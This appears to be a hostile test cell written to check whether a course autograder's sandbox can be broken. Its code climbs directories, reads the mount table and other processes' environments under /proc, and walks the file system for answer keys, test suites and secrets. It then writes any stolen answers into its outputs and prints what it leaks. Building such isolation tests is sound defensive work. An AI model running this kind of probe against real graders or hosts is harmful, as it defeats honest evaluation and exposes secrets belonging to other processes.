# ruff: noqa
# fmt: off
# hostile: looks for the answer key and the hidden checks from inside the sandbox: relative
#   climbs (../../keys/...), the course's absolute path, solutions/, the repository, a
#   recursive glob for *key*, a walk of the whole file system, /proc (mount table, other
#   processes' cwd, root and environment). Whatever it finds that looks like a key it
#   writes into its outputs (inflating the score if it worked) and prints (leaking it).
# base: release
# insert: after:load
# %%
import glob
import json
import os
import re
import threading

NEEDLES = (
    "revenue_eur_by_country",
    "orphan_order_ids",
    "suite_parameters",
    "$PARAMETER",
    "clean_order_rows",
    "BEGIN SOLUTION",
    "answer_key",
)
found = {}
tried = []


def grab(path):
    tried.append(path)
    try:
        with open(path, "rb") as f:
            data = f.read(2_000_000)
    except OSError:
        return
    text = data.decode("utf-8", "replace")
    if any(n in text for n in NEEDLES):
        found[path] = text


candidates = ["__CANDIDATE__", "reference", "untouched"]
for depth in range(1, 8):
    up = "../" * depth
    for cand in candidates:
        grab(f"{up}keys/{cand}/orders-cleanup/answers.json")
        grab(f"{up}keys/{cand}/orders-cleanup/key/answers.json")
    grab(f"{up}solutions/orders-cleanup/orders-cleanup.ipynb")
    grab(f"{up}solutions/orders-cleanup/truth.py")
    grab(f"{up}exercises/orders-cleanup/suite.json")
    grab(f"{up}source/orders-cleanup/orders-cleanup.ipynb")
for cand in candidates:
    grab(f"__COURSE__/keys/{cand}/orders-cleanup/answers.json")
    grab(f"__COURSE__/keys/{cand}/orders-cleanup/key/answer_key.csv")
grab("__HOME__/exercises/orders-cleanup/suite.json")
grab("__HOME__/solutions/orders-cleanup/truth.py")
grab("__REPO__/solutions/orders-cleanup/orders-cleanup.ipynb")
grab("__REPO__/exercises/orders-cleanup/suite.json")
print("direct paths tried:", len(tried))
# %%
# The mount table names the host folders behind the sandbox's mounts; try their neighbours.
host_paths = []
with open("/proc/self/mountinfo") as f:
    for line in f:
        fields = line.split()
        if len(fields) > 4 and fields[3].startswith("/"):
            host_paths.append(fields[3])
for host in host_paths:
    parts = host.rstrip("/").split("/")
    for i in range(1, len(parts)):
        base = "/".join(parts[:i]) or "/"
        for rel in ("keys", "gradebook.db", "suite.json", "answers.json", ".datalit/secret"):
            grab(os.path.join(base, rel))
# Other processes: their working directory, root and environment (the grader's, if visible).
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline"):
            grab(f"/proc/{pid}/{what}")
        for link in ("cwd", "root"):
            try:
                target = os.readlink(f"/proc/{pid}/{link}")
                tried.append(target)
                grab(os.path.join(f"/proc/{pid}/{link}", "keys"))
            except OSError:
                pass
print("mount table paths:", len(host_paths))
# %%
# The literal attack: a recursive glob from the root (bounded here, /proc alone never ends),
# and a walk of everything else.
globbed = []
worker = threading.Thread(
    target=lambda: globbed.extend(glob.glob("/**/*key*", recursive=True)), daemon=True
)
worker.start()
worker.join(timeout=1.5)
for path in list(globbed):
    grab(path)
walked = 0
SKIP = ("/proc", "/sys", "/dev", "/usr", "/opt/datalit/venv/lib", "/root/.pyenv/versions")
for dirpath, dirnames, filenames in os.walk("/"):
    dirnames[:] = [d for d in dirnames if not os.path.join(dirpath, d).startswith(SKIP)]
    for name in filenames:
        walked += 1
        if re.search(r"key|answer|suite|solution|secret|gradebook|truth", name, re.I):
            grab(os.path.join(dirpath, name))
print("walked files:", walked)
# %%
# Use whatever was found, as an attacker would: copy true answers into the outputs.
stolen = {}
for path, text in found.items():
    try:
        data = json.loads(text)
    except ValueError:
        continue
    if isinstance(data, dict) and isinstance(data.get("answers"), dict):
        stolen = data["answers"]
if stolen:
    (OUTPUTS / "flags.json").write_text(json.dumps(stolen))
    (OUTPUTS / "answers.json").write_text(json.dumps(stolen))
leaked = {p: t for p, t in found.items() if not p.startswith(("/work", "./", "outputs"))}
print("LEAKED", len(leaked))
for path, text in leaked.items():
    print(path, text[:2000])
